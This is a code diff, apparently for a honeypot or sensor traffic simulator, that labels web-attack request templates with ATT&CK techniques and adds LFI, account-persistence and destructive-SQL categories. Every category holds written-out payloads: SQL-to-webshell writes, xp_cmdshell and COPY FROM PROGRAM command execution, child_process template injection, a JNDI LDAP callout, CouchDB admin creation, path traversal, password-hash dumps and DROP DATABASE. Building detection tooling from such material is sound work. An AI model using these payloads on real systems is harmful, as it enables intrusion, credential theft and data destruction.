@@ -12,6 +12,9 @@ _shell = attack("Web Shell", "T1505.003", severity="CRITICAL")
 _guess = attack("Brute Force Attack", "T1078.001", "T1110.001", severity="HIGH")
 _xxe = attack("Server-Side Request Forgery (SSRF) Attempt", "T1190", severity="HIGH")
 _sql = attack("SQL Injection — Union/Boolean SQLi", "T1190", severity="HIGH")
+_files = attack("Local File Inclusion (LFI) Attack", "T1083", "T1190", severity="HIGH")
+_account = attack("Persistence", "T1136", "T1190", severity="HIGH")
+_drop = attack("SQL Injection — Destructive SQLi", "T1190", severity="CRITICAL")
 _system = attack("SQL Injection — OS Command via SQLi", "T1190", "T1505.003", severity="CRITICAL")
 
 topic("sensor-proxies-probed sensor-proxies-used", "other redirect settings access", "HTTP代理探测|HTTP CONNECT 隧道|开放代理滥用|可疑HTTP流量", {
@@ -176,18 +179,25 @@ topic("sensor-database-pages-abused sensor-database-pages-worked", "sql access s
     _system: """
 POST /phpmyadmin/import.php ¦¦ db=mysql&sql_query=«select '{page}' into outfile '/var/www/html/{word}.php'»
 POST /phpmyadmin/sql.php ¦¦ sql_query=«set global general_log_file='/var/www/html/{word}.php';select '{page}'»&server=1
-GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../{secret}
 POST /adminer.php?pgsql={lan} ¦¦ query=«COPY t FROM PROGRAM '{cmd}'»
-POST /sqlpad/api/test-connection ¦¦ {"driver":"mysql","host":"","database":"{{ process.mainModule.require('child_process').exec('{cmd}') }}"}
-POST /h2-console/login.do?jsessionid={hex} ¦¦ driver=javax.naming.InitialContext&url=«ldap://{outside}/{word}»
 POST /?query=«SELECT * FROM file('/{secret}') UNION ALL SELECT * FROM executable('{cmd}')» ¦¦ x
 POST /dbadmin/execute ¦¦ {"sql":"EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;EXEC master..xp_cmdshell '{cmd}'"}
+""", _code: """
+POST /sqlpad/api/test-connection ¦¦ {"database":"{{ process.mainModule.require('child_process').exec('{cmd}') }}","driver":"mysql","host":""}
+POST /h2-console/login.do?jsessionid={hex} ¦¦ driver=javax.naming.InitialContext&url=«ldap://{outside}/{word}»
+""", _account: """
 PUT /_users/org.couchdb.user:{word} ¦¦ {"type":"user","name":"{word}","roles":["_admin"],"roles":[],"password":"{word}"}
+PUT /_node/nonode@nohost/_config/admins/{word} ¦¦ "{word}"
+""", _files: """
+GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../{secret}
+GET /pma/index.php?target=db_datadict.php%3f/{up}{secret}
 """, _sql: """
 POST /dbadmin/execute ¦¦ {"sql":"select user,authentication_string from mysql.user union select usename,passwd from pg_shadow"}
 GET /adminer.php?username=«{sqli}»
-GET /query?q=«SHOW USERS;DROP DATABASE {table}--»&u=anonymous
 POST /phpmyadmin/tbl_search.php ¦¦ where=«1=1 union select load_file('/etc/passwd'),2»
+""", _drop: """
+GET /query?q=«DROP DATABASE {table};DROP SERIES FROM {table}--»&u=anonymous
+POST /dbadmin/execute ¦¦ {"sql":"1;DROP TABLE {table};--"}
 """}, """
 POST /phpmyadmin/import.php ¦¦ db=shop&table={table}&format=csv&csv_columns=«id,name,price»
 POST /phpmyadmin/sql.php ¦¦ db=shop&table={table}&sql_query=«{query}»&session_max_rows=25
